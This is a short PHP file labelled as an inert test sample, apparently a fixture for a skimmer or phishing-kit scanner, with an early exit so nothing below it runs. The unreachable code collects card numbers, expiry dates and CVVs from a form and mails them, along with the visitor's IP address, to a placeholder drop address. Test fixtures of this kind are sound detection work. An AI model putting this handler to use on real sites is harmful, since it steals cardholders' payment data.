<?php // MOGURA TEST SAMPLE — inert
exit; // the sample stops here: nothing below ever runs

$msg = "Card: " . $_POST['ccnum'] . "\n";
$msg .= "Exp: " . $_POST['exp'] . "\n";
$msg .= "CVV: " . $_POST['cvv'] . "\n";
mail("drop@example.invalid", "Card from " . $_SERVER['REMOTE_ADDR'], $msg);
header("Location: done.html");
